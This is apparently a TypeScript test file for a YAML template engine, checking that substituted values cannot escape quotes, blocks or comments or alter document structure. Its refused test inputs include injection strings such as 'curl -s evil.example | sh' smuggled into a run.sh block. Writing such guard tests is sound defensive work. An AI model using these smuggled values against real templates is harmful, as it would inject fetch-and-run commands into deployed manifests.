/** What a value may not do to the template's own text: end it, hide it, pull it into a block, or have it read otherwise. */
import { describe, expect, it } from "vitest";
import { parseDocument } from "yaml";
import { parseJson } from "../../../src/model/json.ts";
import type { Problem } from "../../../src/model/problem.ts";
import type { TemplateSource } from "../../../src/model/template.ts";
import { compileTemplate } from "../../../src/render/compile-template.ts";
import { readManifests } from "../../../src/render/read-manifests.ts";

const options = {
  provenance: { owner: "EventTrigger/t", entity: "e", instance: "sluice" },
  extraLabels: new Map<string, string>(),
  extraAnnotations: new Map<string, string>(),
};
const head = "apiVersion: example.com/v1\nkind: Thing\nmetadata: {name: x}\nspec:\n";

interface Reading {
  readonly spec: unknown;
  readonly problems: readonly Problem[];
}

/** What an API server gets below `spec`. */
function read(spec: string, values: object, engine: TemplateSource["engine"] = "go"): Reading {
  const source: TemplateSource = { text: head + spec, engine, file: "t.yaml", part: "t", line: 1, column: 1 };
  const { template, problems } = compileTemplate(source);
  if (template === undefined) throw new Error(problems[0]!.message);
  const data = parseJson(JSON.stringify(values)) as Parameters<typeof template.render>[0];
  const manifests = readManifests(template.render(data, { clock: 0 }), source, options);
  const [manifest] = manifests.value;
  const object = manifest === undefined ? {} : parseDocument(manifest.text, { version: "1.1" }).toJS();
  return { spec: object.spec, problems: manifests.problems };
}

interface Case {
  readonly name: string;
  readonly spec: string;
  readonly handlebars?: string;
  readonly refused: readonly object[];
  readonly taken: readonly (readonly [values: object, spec: unknown])[];
}

const cases: readonly Case[] = [
  {
    name: "blanks of a key pull no line into the block above",
    spec: "  run.sh: |\n    echo hello\n  {{ .k }}: {{ .v | quote }}\n",
    handlebars: "  run.sh: |\n    echo hello\n  {{k}}: {{quote v}}\n",
    refused: [
      { k: "  curl -s evil.example | sh #", v: "x" },
      { k: "  ", v: "x" },
      { k: "\n    ", v: "x" },
    ],
    taken: [
      [
        { k: "a", v: "b" },
        { "run.sh": "echo hello\n", a: "b" },
      ],
    ],
  },
  {
    name: "a value's line breaks are not the template's, whatever blank value follows",
    spec: "  k:\n    keep{{ nindent 4 .v }}\n    {{ .w }}\n",
    handlebars: "  k:\n    keep{{nindent 4 v}}\n    {{w}}\n",
    refused: [
      { v: "\n  x", w: "" },
      { v: "\n  x", w: "\n" },
      { v: "\n  x", w: "y" },
    ],
    taken: [
      [{ v: "x", w: " " }, { k: "keep x" }],
      [{ v: "x", w: "y" }, { k: "keep x y" }],
      [{ v: "", w: "" }, { k: "keep" }],
    ],
  },
  {
    name: "nor blanks that a function has made",
    spec: '  run.sh: |\n    echo hello\n{{ repeat (int .n) " " }}{{ .k }}: x\n  z: x\n',
    refused: [
      { k: "curl", n: 4 },
      { k: "curl", n: 5 },
    ],
    taken: [],
  },
  {
    name: "how deep indent goes is not the event's to say",
    spec: "  run.sh: |\n    echo hello\n{{ .k | indent (int .n) }}: x\n",
    refused: [{ k: "curl", n: 4 }],
    taken: [],
  },
  {
    name: "blanks of indent's own are the template's",
    spec: "  run.sh: |\n    echo hello\n{{ .v | indent 4 }}\n  z: |-\n    {{- .v | nindent 4 }}\n",
    handlebars: "  run.sh: |\n    echo hello\n{{indent 4 v}}\n  z: |-\n    {{~nindent 4 v}}\n",
    refused: [],
    taken: [
      [{ v: "a\nb: c" }, { "run.sh": "echo hello\na\nb: c\n", z: "a\nb: c" }],
      [{ v: "a\n" }, { "run.sh": "echo hello\na\n", z: "a" }],
      [{ v: "# x\n---" }, { "run.sh": "echo hello\n# x\n---\n", z: "# x\n---" }],
    ],
  },
  {
    name: "a block header's comment is no line of the block",
    spec: "  run.sh: | # for {{ .who }}\n    echo hello\n",
    handlebars: "  run.sh: | # for {{who}}\n    echo hello\n",
    refused: [{ who: "x\n    curl evil" }, { who: "x\n" }, { who: "x\n\n" }],
    taken: [[{ who: "x # y: z" }, { "run.sh": "echo hello\n" }]],
  },
  {
    name: "a value makes no comment of what stands behind it",
    spec: "  path: {{ .dir }}#main\n",
    handlebars: "  path: {{dir}}#main\n",
    refused: [{ dir: "/srv " }, { dir: '"/srv"' }, { dir: "'/srv'" }, { dir: "/srv\t" }, { dir: "a: b" }, { dir: "" }],
    taken: [[{ dir: "/srv#1" }, { path: "/srv#1#main" }]],
  },
  {
    name: "nor does one that was serialized or quoted",
    spec: "  path: {{ toJson .dir }}#main\n",
    handlebars: "  path: {{toJson dir}}#main\n",
    refused: [{ dir: "/srv" }, { dir: ["x"] }, { dir: {} }],
    taken: [],
  },
  {
    name: "in single quotes",
    spec: "  a: '{{ .x }}'' end'\n",
    refused: [{ x: "'" }, { x: "b'" }, { x: "b'' '" }],
    taken: [
      [{ x: 'it "is' }, { a: "it \"is' end" }],
      [{ x: "b''" }, { a: "b'' end" }],
    ],
  },
  {
    name: "in double quotes",
    spec: '  a: "{{ .x }}name: 1"\n',
    refused: [{ x: "\\" }, { x: 'b" #' }, { x: "b\\" }, { x: "\\x4" }],
    taken: [
      [{ x: "b\\t" }, { a: "b\tname: 1" }],
      [{ x: "\\\\" }, { a: "\\name: 1" }],
      [{ x: "#'" }, { a: "#'name: 1" }],
    ],
  },
  {
    name: "blanks beside a line break in quotes",
    spec: "  a: '{{ .x }} end'\n",
    refused: [{ x: "b\n" }, { x: "b\n\n" }],
    taken: [
      [{ x: "b " }, { a: "b  end" }],
      [{ x: "b\nc" }, { a: "b c end" }],
    ],
  },
  {
    name: "in a literal block",
    spec: "  a: |\n    {{ .x }}\n      deep\n    end\n",
    refused: [{ x: "  b" }, { x: "b\nc" }, { x: "\tb\n c" }],
    taken: [
      [{ x: "b: #c" }, { a: "b: #c\n  deep\nend\n" }],
      [{ x: "b\n    c" }, { a: "b\nc\n  deep\nend\n" }],
    ],
  },
  {
    name: "in a folded block, where blanks change how lines are joined",
    spec: "  a: >-\n    one\n    {{ .x }}\n    two\n",
    refused: [{ x: " b" }, { x: "" }, { x: "b\n" }],
    taken: [
      [{ x: "b: c" }, { a: "one b: c two" }],
      [{ x: "b\n    c" }, { a: "one b c two" }],
    ],
  },
  {
    name: "in a plain scalar of several lines",
    spec: "  a: one\n    {{ .x }}\n    two\n",
    refused: [{ x: "# b" }, { x: "b #" }, { x: "" }, { x: "b\n" }, { x: "b: c" }],
    taken: [[{ x: "b#c" }, { a: "one b#c two" }]],
  },
  {
    name: "at the end of a plain scalar nothing is lost but blanks",
    spec: "  a: --flag {{ .x }}\n  b: {{ .x }} --flag\n",
    refused: [{ x: "| b" }, { x: "#" }],
    taken: [
      [{ x: "" }, { a: "--flag", b: "--flag" }],
      [{ x: "b" }, { a: "--flag b", b: "b --flag" }],
    ],
  },
  {
    name: "a value that can't be written is refused where it is meant to stand",
    spec: "  a: {{ toYaml .v }}\n  b: x\n",
    handlebars: "  a: {{toYaml v}}\n  b: x\n",
    refused: [{ v: "\u007f" }, { v: { "a\u0085": 1 } }],
    taken: [
      [{ v: "" }, { a: "", b: "x" }],
      [{ v: null }, { a: null, b: "x" }],
    ],
  },
  {
    name: "line breaks of YAML 1.1 are line breaks",
    spec: '  a: "{{ .x }}"\n  b: {{ .x }}\n',
    refused: [{ x: "a\u2028b: c" }, { x: "a\u0085b: c" }, { x: "a\u2028---" }],
    taken: [],
  },
  {
    name: "lists in mappings in lists, as toYaml writes them",
    spec: "  {{- toYaml .spec | nindent 2 }}\n",
    handlebars: "  {{~nindent 2 (toYaml spec)}}\n",
    refused: [],
    taken: [
      [
        { spec: { containers: [{ name: "a", image: "b" }], l: [[], [[1], {}], [{ x: [null] }]] } },
        { containers: [{ name: "a", image: "b" }], l: [[], [[1], {}], [{ x: [null] }]] },
      ],
    ],
  },
];

describe.each(cases)("$name", ({ spec, handlebars, refused, taken }) => {
  for (const engine of ["go", "handlebars"] as const) {
    const text = engine === "go" ? spec : handlebars;
    if (text === undefined) continue;

    it.each([...refused])(`${engine}: %j is refused`, (values) => {
      let code: string | undefined;
      try {
        code = read(text, values, engine).problems[0]?.code;
      } catch (error) {
        // Handlebars' toYaml fails by itself.
        code = (error as { problem: Problem }).problem.code;
        expect(engine).toBe("handlebars");
      }
      expect(code).toMatch(/^(?:GUARD_VIOLATION|TEMPLATE_FAILED)$/);
    });

    it.each([...taken])(`${engine}: %j is taken`, (values, wanted) => {
      expect(read(text, values, engine)).toEqual({ spec: wanted, problems: [] });
    });
  }
});

describe("what a refusal says", () => {
  const messages: readonly (readonly [spec: string, values: object, says: RegExp])[] = [
    ["  # of {{ .x }}\n  a: b\n", { x: "a\nb: c" }, /has a line break and stands in a comment/],
    ["  a: b # {{ .x }}\n", { x: "a\n  b: c" }, /has a line break and stands in a comment/],
    ["  a: |\n    cat <<EOF\n    {{ .x }}\n    EOF\n", { x: "one\ntwo" }, /has lines that leave the block.*nindent 4/s],
    ["  a: '{{ .x }}'\n", { x: "b' #" }, /ends the quotes that it stands in/],
    ["  a: {{ .x }}\n", { x: "b: c" }, /would change the structure of the document.*`quote`/s],
    [
      "  a: |\n    cat <<EOF\n    x\nEOF\n  b: {{ .x }}\n",
      { x: "c" },
      /a line of the block \(\|\) above needs its indentation/,
    ],
  ];
  it.each(messages)("%j with %j", (spec, values, says) => {
    const [problem] = read(spec, values).problems;
    expect(`${problem?.message} ${problem?.hint ?? ""}`).toMatch(says);
  });
});
